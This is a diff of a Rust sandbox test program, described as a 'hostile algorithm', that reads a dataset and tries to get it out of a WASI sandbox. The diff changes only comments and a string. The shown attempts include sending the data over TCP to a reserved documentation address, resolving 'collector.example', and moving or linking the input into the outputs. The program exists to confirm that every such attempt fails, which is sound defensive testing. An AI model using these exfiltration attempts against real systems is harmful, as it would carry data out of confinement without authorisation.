@@ -1,7 +1,7 @@
-//! A hostile algorithm: tries to carry a dataset out of the sandbox, and says what became of each attempt.
+//! A hostile algorithm: tries to get a dataset out of the sandbox, and prints the result of each attempt.
 //!
-//! Reads   the first file of the first dataset, and whatever else it can reach
-//! Writes  `loot`, to see whether it can be read back
+//! Reads   the first file of the first dataset, and everything else that it can reach
+//! Writes  `loot`, to try to read it back
 //! Params  none
 //!
 //! Exits with 0 if every attempt failed, with 1 if one succeeded. Built for both WASI versions: the preview 1 command runs
@@ -15,10 +15,10 @@ use std::io::{Read as _, Write as _};
 use std::net::{TcpStream, ToSocketAddrs as _};
 use std::process::{Command, ExitCode};
 
-/// An address of the block that is reserved for examples: nobody answers there.
+/// An address of the block that is reserved for documentation; no host has it.
 const COLLECTOR: &str = "192.0.2.1:443";
 
-/// One thing that must not work.
+/// One attempt that must fail.
 type Attempt<'a> = (&'a str, Box<dyn Fn() -> std::io::Result<Box<dyn Debug>> + 'a>);
 
 fn attempt<'a, T: Debug + 'static>(name: &'a str, try_it: impl Fn() -> std::io::Result<T> + 'a) -> Attempt<'a> {
@@ -32,7 +32,7 @@ fn run() -> Result<()> {
     println!("read {} bytes of the dataset, as any algorithm may; now out with them", stolen.len());
 
     let loot = job.outputs().join("loot");
-    fs::write(&loot, b"a result is counted, and read by nobody in here").map_err(|e| format!("no output: {e}"))?;
+    fs::write(&loot, b"a result that the algorithm cannot read back").map_err(|e| format!("no output: {e}"))?;
     let attempts = [
         attempt("send it over TCP", || TcpStream::connect(COLLECTOR)?.write_all(&stolen)),
         attempt("find a server by name", || Ok(("collector.example", 443).to_socket_addrs()?.count())),
@@ -46,7 +46,7 @@ fn run() -> Result<()> {
         attempt("move it into the outputs", || fs::rename(&input, job.outputs().join("moved"))),
         attempt("link it into the outputs", || fs::hard_link(&input, job.outputs().join("linked"))),
         attempt("read an output back", || File::open(&loot)?.read(&mut [0; 16])),
-        // Some versions of Rust open a directory when they are asked for its first name: only a name is a success.
+        // Some versions of Rust open a directory without an error, so only a listed name counts as success.
         attempt("list the outputs", || {
             fs::read_dir(job.outputs())?.collect::<std::io::Result<Vec<_>>>().map(|names| names.len())
         }),
